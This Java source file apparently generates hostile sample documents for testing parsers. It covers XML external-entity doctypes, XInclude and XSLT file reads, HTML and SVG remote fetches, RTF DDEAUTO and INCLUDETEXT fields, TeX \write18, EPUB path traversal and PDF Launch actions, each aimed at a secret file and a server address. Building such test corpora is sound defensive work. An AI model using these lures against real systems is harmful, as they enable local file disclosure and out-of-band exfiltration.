package io.github.shardmill.samples.hostile;

import java.util.Map;

/**
 * Documents that name a file and an address, in every way in which a reader of their format might
 * follow: entities, document types, includes, style sheets, links, templates, attachments.
 *
 * @param secret a file, as a URI
 * @param server where requests would be sent, without a slash at the end
 */
record Lures(String secret, String server) {
  private static final String XHTML = "http://www.w3.org/1999/xhtml";

  void addTo(HostileFiles files) {
    addXml(files);
    addIncludes(files);
    addPages(files);
    new OfficeLures(this).addTo(files);
    addOpen(files);
    addBooks(files);
    addText(files);
    addPdf(files);
  }

  String at(String name) {
    return server + "/" + name;
  }

  /** A document type that asks for everything that can be asked for; the text uses its entity s. */
  String doctype(String root, String name) {
    return "<?xml version=\"1.0\" standalone=\"no\"?>\n<!DOCTYPE "
        + root
        + " SYSTEM \""
        + at(name + ".dtd")
        + "\" [\n<!ENTITY % file SYSTEM \""
        + secret
        + "\">\n<!ENTITY % net SYSTEM \""
        + at(name + "-parameter")
        + "\">\n%net;\n<!ENTITY s SYSTEM \""
        + secret
        + "\">\n<!ENTITY n SYSTEM \""
        + at(name + "-entity")
        + "\">\n<!ENTITY j SYSTEM \"jar:"
        + at(name + ".jar")
        + "!/x\">\n]>\n";
  }

  /** As {@link #doctype}, without anything that ends the parse at once. */
  String entity(String root) {
    return "<?xml version=\"1.0\"?>\n<!DOCTYPE "
        + root
        + " [<!ENTITY s SYSTEM \""
        + secret
        + "\"><!ENTITY n SYSTEM \""
        + at("plain-entity")
        + "\"><!ENTITY j SYSTEM \"x\">]>\n";
  }

  static String used() {
    return "open &s; &n; &j; end";
  }

  private void addXml(HostileFiles files) {
    addXml(files, "any.xml", "a", "<a>" + used() + "</a>");
    addXml(
        files,
        "picture.svg",
        "svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>" + used() + "</text></svg>");
    addXml(
        files,
        "page.xhtml",
        "html",
        "<html xmlns=\"" + XHTML + "\"><body><p>" + used() + "</p></body></html>");
    addXml(
        files,
        "feed.rss",
        "rss",
        "<rss version=\"2.0\"><channel><title>"
            + used()
            + "</title><link>x</link><description>d</description></channel></rss>");
    addXml(
        files,
        "feed.atom",
        "feed",
        "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>" + used() + "</title></feed>");
    addXml(
        files,
        "list.plist",
        "plist",
        "<plist version=\"1.0\"><dict><key>k</key><string>" + used() + "</string></dict></plist>");
    addXml(
        files,
        "book.fb2",
        "FictionBook",
        "<FictionBook xmlns=\"http://www.gribuser.ru/xml/fictionbook/2.0\"><body><section><p>"
            + used()
            + "</p></section></body></FictionBook>");
    addXml(
        files,
        "word2003.xml",
        "w:wordDocument",
        "<?mso-application progid=\"Word.Document\"?><w:wordDocument"
            + " xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body><w:p><w:r>"
            + "<w:t>"
            + used()
            + "</w:t></w:r></w:p></w:body></w:wordDocument>");
    addXml(
        files,
        "flat.fodt",
        "office:document",
        "<office:document "
            + Containers.OPEN_NAMES
            + " office:mimetype=\"application/vnd.oasis.opendocument.text\"><office:body>"
            + "<office:text><text:p>"
            + used()
            + "</text:p></office:text></office:body></office:document>");
    addXml(
        files,
        "places.kml",
        "kml",
        "<kml xmlns=\"http://www.opengis.net/kml/2.2\"><name>" + used() + "</name></kml>");
    addXml(files, "stylesheet.xsl", "x:stylesheet", stylesheet());
  }

  private void addXml(HostileFiles files, String name, String root, String body) {
    files.add("lures/doctype-" + name, doctype(root, name) + body);
    files.add("lures/entity-" + name, entity(root) + body);
  }

  private String stylesheet() {
    return "<x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">"
        + "<x:import href=\""
        + at("import.xsl")
        + "\"/><x:template match=\"/\"><x:value-of select=\"document('"
        + secret
        + "')\"/>"
        + used()
        + "</x:template></x:stylesheet>";
  }

  private void addIncludes(HostileFiles files) {
    files.add(
        "lures/include.xml",
        "<?xml-stylesheet href=\""
            + at("style.xsl")
            + "\" type=\"text/xsl\"?><a xmlns:xi=\"http://www.w3.org/2001/XInclude\""
            + " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"x "
            + at("schema.xsd")
            + "\" xsi:noNamespaceSchemaLocation=\""
            + at("none.xsd")
            + "\"><xi:include href=\""
            + secret
            + "\" parse=\"text\"/><xi:include href=\""
            + at("include")
            + "\" parse=\"text\"/></a>");
    files.add(
        "lures/links.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
            + "<image xlink:href=\""
            + at("svg-image")
            + "\"/><use href=\""
            + secret
            + "#a\"/><script href=\""
            + at("svg-script")
            + "\"/><style>@import url("
            + at("svg-style")
            + ");</style><text>open</text></svg>");
  }

  private void addPages(HostileFiles files) {
    String body =
        "<base href=\""
            + at("base/")
            + "\"><meta http-equiv=\"refresh\" content=\"0;url="
            + at("refresh")
            + "\"><link rel=stylesheet href=\""
            + at("style")
            + "\"><script src=\""
            + at("script")
            + "\"></script></head><body background=\""
            + at("background")
            + "\"><img src=\""
            + at("img")
            + "\" srcset=\""
            + at("srcset")
            + "\"><img src=\""
            + secret
            + "\"><iframe src=\""
            + secret
            + "\"></iframe><iframe src=\""
            + at("iframe")
            + "\"></iframe><object data=\""
            + at("object")
            + "\"></object><embed src=\""
            + secret
            + "\"><video src=\""
            + at("video")
            + "\"></video><form action=\""
            + at("form")
            + "\"></form><!--#include virtual=\""
            + secret
            + "\" --><applet code=\""
            + at("applet")
            + "\"></applet>open</body></html>";
    files.add("lures/page.html", "<html><head>" + body);
    files.add(
        "lures/doctype.html",
        doctype("html", "doctype.html") + "<html><body>" + used() + "</body>");
    files.add(
        "lures/note.md",
        "# Open\n![x](" + secret + ") ![y](" + at("md") + ") [[" + secret + "]]\n");
    files.add("lures/list.m3u", "#EXTM3U\n" + at("m3u") + "\n" + secret + "\n");
    files.add(
        "lures/shortcut.url", "[InternetShortcut]\nURL=" + at("shortcut") + "\nIconFile=" + secret);
  }

  private void addOpen(HostileFiles files) {
    for (String part :
        new String[] {"content.xml", "meta.xml", "styles.xml", "META-INF/manifest.xml"}) {
      files.add(
          "lures/" + part.replace('/', '-').replace(".xml", "") + ".odt",
          Containers.odt(
              Map.of(
                  part,
                  Containers.openContent(
                      doctype("office:document-content", part.replace('/', '-')),
                      "<text:p>" + used() + "</text:p>"))));
    }
    files.add(
        "lures/links.odt",
        Containers.odt(
            Map.of(
                "content.xml",
                Containers.openContent(
                    "",
                    "<text:section><text:section-source xlink:href=\""
                        + secret
                        + "\"/></text:section><draw:image xlink:href=\""
                        + at("odt-image")
                        + "\"/><draw:object xlink:href=\""
                        + secret
                        + "\"/><text:p>open</text:p>"))));
  }

  private void addBooks(HostileFiles files) {
    String page =
        doctype("html", "epub")
            + "<html xmlns=\""
            + XHTML
            + "\"><body>"
            + used()
            + "</body></html>";
    files.add("lures/chapter.epub", Containers.epub(Map.of("c.xhtml", page)));
    files.add(
        "lures/package.epub",
        Containers.epub(Map.of("book.opf", Containers.bookPackage(doctype("package", "opf")))));
    files.add(
        "lures/elsewhere.epub",
        Containers.epub(Map.of("book.opf", Containers.bookPackage("").replace("c.xhtml", secret))));
    files.add(
        "lures/upwards.epub",
        Containers.epub(
            Map.of(
                "META-INF/container.xml",
                "<container><rootfiles><rootfile full-path=\"../../../../../../etc/hostname\"/>"
                    + "</rootfiles></container>")));
  }

  private void addText(HostileFiles files) {
    files.add(
        "lures/fields.rtf",
        "{\\rtf1{\\*\\template "
            + at("rtf-template")
            + "}{\\field{\\*\\fldinst INCLUDETEXT \""
            + secret
            + "\"}{\\fldrslt open}}{\\field{\\*\\fldinst INCLUDEPICTURE \""
            + at("rtf-picture")
            + "\"}{\\fldrslt x}}{\\object\\objlink{\\*\\objclass Package}"
            + "{\\*\\objdata 01050000}}{\\field{\\*\\fldinst DDEAUTO x y z}}}");
    files.add(
        "lures/external.eml",
        "From: a@example.org\nSubject: open\nMIME-Version: 1.0\n"
            + "Content-Type: multipart/mixed; boundary=b\n\n"
            + "--b\nContent-Type: message/external-body; access-type=local-file; name=\""
            + secret.replace("file://", "")
            + "\"\n\nContent-Type: text/plain\n\n"
            + "--b\nContent-Type: message/external-body; access-type=URL; URL=\""
            + at("mail")
            + "\"\n\nContent-Type: text/plain\n\n"
            + "--b\nContent-Type: text/html\nContent-Location: "
            + at("location")
            + "\n\n<img src=\""
            + at("mail-img")
            + "\">open\n--b--\n");
    files.add(
        "lures/include.tex", "\\documentclass{article}\n\\input{" + secret + "}\n\\write18{x}\n");
    files.add(
        "lures/calendar.ics",
        "BEGIN:VCALENDAR\nBEGIN:VEVENT\nATTACH:"
            + secret
            + "\nATTACH:"
            + at("ics")
            + "\nEND:VEVENT\nEND:VCALENDAR\n");
  }

  private void addPdf(HostileFiles files) {
    String path = secret.replace("file://", "");
    files.add(
        "lures/actions.pdf",
        RawPdf.ofOnePage(
                "/OpenAction 6 0 R/AA<</WC 7 0 R>>",
                ">>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 8 0 R>>]")
            .stream("", "BT /F 12 Tf (open) Tj ET")
            .font()
            .add("<</S/URI/URI(" + at("pdf-uri") + ")/Next 7 0 R>>")
            .add("<</S/Launch/F(" + path + ")>>")
            .add("<</S/GoToR/D[0/Fit]/F<</Type/Filespec/FS/URL/F(" + at("pdf-gotor") + ")>>>>")
            .toBytes());
    files.add(
        "lures/stream.pdf",
        RawPdf.ofOnePage("", ">>").stream(
                "/F<</Type/Filespec/F(" + path + ")>>", "BT /F 12 Tf (open) Tj ET")
            .font()
            .toBytes());
    files.add("lures/form.pdf", pdfWith("/AcroForm<</XFA 6 0 R/Fields[]>>", "xdp:xdp"));
    files.add("lures/metadata.pdf", pdfWith("/Metadata 6 0 R", "x:xmpmeta"));
  }

  private byte[] pdfWith(String catalogMore, String root) {
    String namespaces = " xmlns:xdp=\"http://ns.adobe.com/xdp/\" xmlns:x=\"adobe:ns:meta/\"";
    return RawPdf.ofOnePage(catalogMore, ">>").stream("", "BT /F 12 Tf (open) Tj ET").font().stream(
            "/Type/Metadata/Subtype/XML",
            doctype(root, "pdf") + "<" + root + namespaces + ">" + used() + "</" + root + ">")
        .toBytes();
  }
}
